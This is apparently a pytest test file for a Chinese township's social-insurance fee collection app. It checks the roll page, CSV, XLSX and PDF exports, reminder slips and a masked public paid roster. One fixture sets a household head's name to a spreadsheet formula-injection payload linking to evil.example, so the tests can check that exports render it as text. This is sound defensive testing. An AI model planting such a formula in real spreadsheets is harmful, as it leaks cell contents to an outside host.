"""The collection roll's page, files and papers; the paid roster notice; the reminder slips.

Village A starts with nobody registered, so its roll is exactly the three people registered
here: a general resident who paid everything, a 低保 resident who paid their part (the
township recorded the government's), and a resident who paid nothing, living in a household
whose head, from a roster, is a spreadsheet formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import stat
import subprocess
from pathlib import Path

import pytest
import zxingcpp
from conftest import TOWNSHIP_A, VILLAGE_A, VILLAGE_B, Auth, csrf_from, first_household
from helpers import new_id_number
from openpyxl import load_workbook
from payers import ApiClient
from PIL import Image

from survey_app import clock, documents, roster_load, state
from survey_app.registry import Scope
from survey_app.store import Store

FORMULA_HEAD = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
SPECIAL = ("特困", "孤儿", "低保", "残疾", "低收入", "计生特扶", "优抚", "特殊人群")
FULL_ID = re.compile(r"\d{17}[\dXx]")
MOBILE = re.compile(r"1[3-9]\d{9}")
PENSION, MEDICAL = "城乡居民基本养老保险", "城乡居民基本医疗保险"


@pytest.fixture(autouse=True)
def fixed_day(monkeypatch):
    monkeypatch.setattr(clock, "utc_now", lambda: dt.datetime(2026, 11, 21, 2, 0, tzinfo=dt.UTC))


class Phone(ApiClient):
    default_channel = "wechat"


@pytest.fixture
def village(app, store):
    """The three people of village A's roll, with their ID numbers, phones and households."""
    phone = Phone(app, "e001001")
    home = first_household(store, VILLAGE_A)
    roster_load.import_roster(store, VILLAGE_A, [{
        "head_name": FORMULA_HEAD, "address": "+临山村9组9号", "members_count": 1,
        "members": [{"name": "赵大山", "id_number": new_id_number(1960), "sex": "male",
                     "relationship": "head"}]}])
    formula_house = next(h for h in store.read(Store.village(VILLAGE_A)).all("households")
                         if h["head_name"] == FORMULA_HEAD)
    people = {
        "paid": {"name": "王建国", "id_number": new_id_number(1970), "phone": "13911112222",
                 "pension_tier": "500", "house": home},
        "special": {"name": "李秀兰", "id_number": new_id_number(1975, male=False),
                    "phone": "13933334444", "sex": "female", "pension_tier": "500",
                    "person_category": "special", "special_group": "dibao", "house": home},
        "unpaid": {"name": "赵德胜", "id_number": new_id_number(1980), "phone": "13955556666",
                   "pension_tier": "300", "payment_channel": "village_agent",
                   "house": {**formula_house, "ref": f"{VILLAGE_A}.{formula_house['doc_id']}"}},
    }
    for person in people.values():
        answers = {k: v for k, v in person.items() if k != "house"}
        person["ref"] = phone.register(person["house"]["ref"], **answers)
    both = ["resident_pension", "resident_medical"]
    phone.pay(people["paid"]["ref"], both, "900")
    phone.pay(people["special"]["ref"], both, "420")  # 300 + 120: the person's part
    people["township"] = Phone(app, "township")
    return people


def government_pays(village) -> None:
    """The township records the government's part of the 低保 resident (200 + 280)."""
    village["township"].pay(village["special"]["ref"], ["resident_pension", "resident_medical"],
                            "480", payer="government")


def township_client(app):
    client = app.test_client()
    Auth(client).login("township")
    return client


def pdftotext(data: bytes | Path, tmp_path: Path, *options: str) -> str:
    pdf = data if isinstance(data, Path) else tmp_path / "out.pdf"
    if not isinstance(data, Path):
        pdf.write_bytes(data)
    return subprocess.run(["pdftotext", *options, str(pdf), "-"], check=True, capture_output=True,
                          text=True).stdout


def masked(person: dict) -> str:
    return person["id_number"][:6] + "*" * 8 + person["id_number"][-4:]


def birth_forms(id_number: str) -> tuple[str, ...]:
    born = dt.date(int(id_number[6:10]), int(id_number[10:12]), int(id_number[12:14]))
    return born.isoformat(), f"{born.year}年{born.month}月{born.day}日", id_number[6:14]


# -- the roll's files -------------------------------------------------------------------------
def expected_rows(village) -> list[list[str]]:
    head = village["paid"]["house"]["head_name"]
    paid, special, unpaid = village["paid"], village["special"], village["unpaid"]
    return [
        [VILLAGE_A, "", head, "王建国", paid["id_number"], "一般城乡居民", "",
         PENSION, "500", "500", "0", "500", "500", "0", "已缴清"],
        [VILLAGE_A, "", head, "王建国", paid["id_number"], "一般城乡居民", "",
         MEDICAL, "", "400", "0", "400", "400", "0", "已缴清"],
        [VILLAGE_A, "", head, "李秀兰", special["id_number"], "特殊人群", "低保对象",
         PENSION, "500", "500", "200", "300", "300", "200", "已缴清"],
        [VILLAGE_A, "", head, "李秀兰", special["id_number"], "特殊人群", "低保对象",
         MEDICAL, "", "400", "280", "120", "120", "280", "已缴清"],
        [VILLAGE_A, "", "'" + FORMULA_HEAD, "赵德胜", unpaid["id_number"], "一般城乡居民", "",
         PENSION, "300", "300", "0", "300", "0", "0", "未缴"],
        [VILLAGE_A, "", "'" + FORMULA_HEAD, "赵德胜", unpaid["id_number"], "一般城乡居民", "",
         MEDICAL, "", "400", "0", "400", "0", "0", "未缴"],
    ]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # Excel and WPS read it as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("path", [f"/s/v/{VILLAGE_A}/collection/roll.csv",
                                  f"/s/a/{TOWNSHIP_A}/collection/roll.csv"])
def test_the_roll_csv_has_exact_rows_and_a_formula_head_arrives_as_text(app, store, village, path):
    government_pays(village)
    response = township_client(app).get(path)
    assert response.status_code == 200
    assert 'filename="canbao-roll-' in response.headers["Content-Disposition"]
    rows = read_csv(response.get_data())
    assert rows[0][:5] == ["村（社区）代码", "户编号", "户主", "姓名", "公民身份号码"]
    assert rows[1:] == expected_rows(village)
    exported = [e for e in store.read(Store.SYSTEM).all("audit") if e["action"] == "export_csv"]
    assert [(e["ref"], e["user"]) for e in exported] == [(path.split("/")[3], "township")]
    assert not FULL_ID.search(json.dumps(exported)) and not MOBILE.search(json.dumps(exported))


def test_the_roll_workbook_keeps_numbers_as_numbers_and_the_formula_as_text(app, village):
    government_pays(village)
    response = township_client(app).get(f"/s/v/{VILLAGE_A}/collection/roll.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert sheet.title == "征收清册"
    rows = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
    heads = {r[2] for r in rows}
    assert "'" + FORMULA_HEAD in heads and FORMULA_HEAD not in heads
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    special = [r for r in rows if r[3] == "李秀兰"]
    assert [r[7:] for r in special] == [[PENSION, 500, 500, 200, 300, 300, 200, "已缴清"],
                                        [MEDICAL, None, 400, 280, 120, 120, 280, "已缴清"]]
    assert [r[4] for r in special] == [village["special"]["id_number"]] * 2  # all 18 characters


# -- the roll's page ----------------------------------------------------------------------------
def test_the_roll_page_lists_each_household_its_lines_and_the_totals(app, store, village):
    page = township_client(app).get(f"/s/v/{VILLAGE_A}/collection/roll")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))
    for person in ("paid", "special", "unpaid"):
        assert village[person]["name"] in html and village[person]["id_number"] in html
    assert html.index("王建国") < html.index("李秀兰") < html.index("赵德胜")  # household order
    assert "&#34;点击查看&#34;" in html or "&quot;点击查看&quot;" in html  # escaped, as text
    # 低保's medical line: 400 standard, 280 government, 120 the person's part, paid; the
    # government's 480 not yet recorded, so the person is partly paid.
    assert re.search(r"城乡居民基本医疗保险 — 400\.00 280\.00 120\.00 120\.00 0\.00 部分已缴", text)
    assert re.search(r"合计：3 人，6 条 2500\.00 480\.00 2020\.00 1320\.00 0\.00 已缴清 1 人", text)
    for link in ("roll.xlsx", "roll.csv"):
        assert f'href="/s/v/{VILLAGE_A}/collection/{link}"' in html
    for form in ("roll.pdf", "reminders.pdf"):
        assert f'action="/s/v/{VILLAGE_A}/collection/{form}"' in html
    reads = [e for e in store.read(f"audit/202611/{VILLAGE_A}").all("audit")
             if e["action"] == "read_roll"]
    assert [e["ref"] for e in reads] == [VILLAGE_A]


# -- outside the area ---------------------------------------------------------------------------
OUTSIDE_GETS = [f"/s/v/{VILLAGE_B}/collection/roll", f"/s/v/{VILLAGE_B}/collection/roll.csv",
                f"/s/v/{VILLAGE_B}/collection/roll.xlsx", "/s/a/370403002/collection/roll.csv",
                "/s/a/370403002/collection/roll.xlsx", "/s/v/999999999999/collection/roll",
                "/s/a/370403/collection/roll.csv", f"/s/a/{VILLAGE_A}/collection/roll.csv"]
OUTSIDE_POSTS = [f"/s/v/{VILLAGE_B}/collection/roll.pdf", f"/s/v/{VILLAGE_B}/collection/reminders.pdf",
                 "/s/v/999999999999/collection/roll.pdf", "/s/v/x/collection/reminders.pdf"]


def test_every_roll_route_outside_the_area_is_not_found_and_writes_nothing(app, store, village):
    client = township_client(app)
    token = csrf_from(client.get(f"/s/v/{VILLAGE_A}/collection/roll").get_data(as_text=True))
    before = store.digest()
    for path in OUTSIDE_GETS:
        assert client.get(path).status_code == 404, path
    for path in OUTSIDE_POSTS:
        assert client.post(path, data={"csrf_token": token}).status_code == 404, path
    assert store.digest() == before
    assert not Path(app.config["EXPORTS_DIR"]).exists() or \
        not list(Path(app.config["EXPORTS_DIR"]).rglob("*.pdf"))


def test_an_enumerator_reaches_none_of_the_roll_routes(app, village):
    client = app.test_client()
    Auth(client).login("e001001")
    for path in (f"/s/v/{VILLAGE_A}/collection/roll", f"/s/v/{VILLAGE_A}/collection/roll.csv",
                 f"/s/a/{TOWNSHIP_A}/collection/roll.xlsx"):
        assert client.get(path).status_code == 404, path


# -- the papers ---------------------------------------------------------------------------------
def test_the_roll_pdf_is_the_agents_private_full_roll(app, store, village, tmp_path):
    client = township_client(app)
    token = csrf_from(client.get(f"/s/v/{VILLAGE_A}/collection/roll").get_data(as_text=True))
    response = client.post(f"/s/v/{VILLAGE_A}/collection/roll.pdf", data={"csrf_token": token})
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdftotext(response.get_data(), tmp_path)
    compact = re.sub(r"\s+", "", text)
    assert "临山村2027年度城乡居民社会保险费征收清册" in compact
    for person in ("paid", "special", "unpaid"):
        assert village[person]["name"] in text and village[person]["id_number"] in compact
    assert "合计：3人（其中特殊人群1人），6条，已缴清1人" in compact
    assert FORMULA_HEAD.replace(" ", "") in compact
    made = list(Path(app.config["EXPORTS_DIR"]).rglob("roll-*.pdf"))
    assert len(made) == 1 and stat.S_IMODE(made[0].stat().st_mode) == 0o600
    actions = [e["action"] for e in store.read(Store.village(VILLAGE_A)).all("audit")]
    assert "print_roll" in actions
    assert not FULL_ID.search(json.dumps(store.read(Store.village(VILLAGE_A)).all("audit")))


def test_reminder_slips_name_the_households_that_owe_and_what_they_owe(app, village, tmp_path):
    client = township_client(app)
    token = csrf_from(client.get(f"/s/v/{VILLAGE_A}/collection/roll").get_data(as_text=True))
    response = client.post(f"/s/v/{VILLAGE_A}/collection/reminders.pdf", data={"csrf_token": token})
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdftotext(response.get_data(), tmp_path)
    compact = re.sub(r"\s+", "", text)
    # only the household that owes: its member masked, the person's part per scheme, the total,
    # the channel chosen and the end of the 集中征缴 phase (campaign.toml)
    assert compact.count("缴费提醒单") == 1
    assert "赵*胜" in compact and "赵德胜" not in text
    table = pdftotext(tmp_path / "out.pdf", tmp_path, "-layout")
    assert re.search(r"赵\*胜\s+300\.00\s+400\.00\s+700\.00\s+村居代办员代收", table)
    assert re.search(r"本户合计\s+700\.00", table)
    assert "2026年11月30日" in compact
    # the paid household (the 低保 resident's government part is still open: the person's is paid)
    for name in ("王*国", "李*兰", "王建国", "李秀兰"):
        assert name not in compact, name
    for label in SPECIAL:
        assert label not in text, label
    assert not FULL_ID.search(compact) and not MOBILE.search(compact)
    (tmp_path / "page").mkdir()
    subprocess.run(["pdftoppm", "-r", "150", "-f", "1", "-l", "1", "-png", str(tmp_path / "out.pdf"),
                    str(tmp_path / "page" / "p")], check=True)
    found = zxingcpp.read_barcodes(Image.open(next((tmp_path / "page").glob("*.png"))))
    assert [code.text for code in found] == [app.config["PUBLIC_URL"].rstrip("/") + "/portal/how-to-pay.html"]


def test_papers_with_nothing_to_print_say_so_and_write_nothing(app, store):
    client = township_client(app)
    token = csrf_from(client.get(f"/s/v/{VILLAGE_A}/collection/roll").get_data(as_text=True))
    for paper, message in (("roll.pdf", "还没有应缴费人员"), ("reminders.pdf", "没有尚未缴清")):
        response = client.post(f"/s/v/{VILLAGE_A}/collection/{paper}", data={"csrf_token": token})
        assert response.status_code == 400
        assert message in response.get_data(as_text=True)
    assert not Path(app.config["EXPORTS_DIR"]).exists() or \
        not list(Path(app.config["EXPORTS_DIR"]).rglob("*.pdf"))
    assert [e for e in store.read(Store.village(VILLAGE_A)).all("audit")
            if e["action"].startswith("print_")] == []


# -- the public paid roster -------------------------------------------------------------------
def test_the_paid_roster_lists_exactly_the_payers_masked_and_nothing_sensitive(app, village, tmp_path):
    scope = Scope(frozenset({VILLAGE_A}), "township")
    with app.app_context():
        # the 低保 resident's government part is still open: not yet on the roster
        assert [r["name"] for r in documents.roster_rows(scope, VILLAGE_A)] == ["王*国"]
    government_pays(village)
    with app.app_context():
        export = documents.print_notice(scope, "roster", village=VILLAGE_A)
        published = documents.published_notices(app.config["EXPORTS_DIR"])
        houses = [h["address"] for h in state.store().read(Store.village(VILLAGE_A)).all("households")]
    text = pdftotext(export.pdf, tmp_path)
    compact = re.sub(r"\s+", "", text)
    assert "临山村城乡居民社会保险费缴费清册公示" in compact
    for phrase in ("公示期", "2026年11月21日至2026年11月27日", "村（居）委会办公室", "便民服务中心",
                   "税务部门盖章处"):
        assert phrase in compact, phrase
    paid, special, unpaid = village["paid"], village["special"], village["unpaid"]
    rows = re.findall(r"\d+\s+(\S\*+\S)\s+(\d{6}\*{8}\d{3}[\dX])\s+(\S+)\s+(\S+)", text)
    assert rows == [("王*国", masked(paid), "居民养老、居民医疗", "500元/年"),
                    ("李*兰", masked(special), "居民养老、居民医疗", "500元/年")]
    assert "赵*胜" not in compact and masked(unpaid) not in compact
    for person in (paid, special, unpaid):
        number = person["id_number"]
        for shown in (person["name"], number, person["phone"], *birth_forms(number)):
            assert shown not in compact, shown
    assert not FULL_ID.search(compact) and not MOBILE.search(compact)
    for label in SPECIAL:
        assert label not in text, label
    # no amount at all (a special group's subsidy least of all): yuan only in the tier's name
    assert "元" not in compact.replace("500元/年", "") and not re.search(r"\d\.\d\d", compact)
    for address in houses:
        assert address not in compact, address
    notice = next(n for n in published if n["kind"] == "roster")
    assert notice["title"] == "临山村城乡居民社会保险费缴费清册公示" and notice["pdf"] == export.pdf
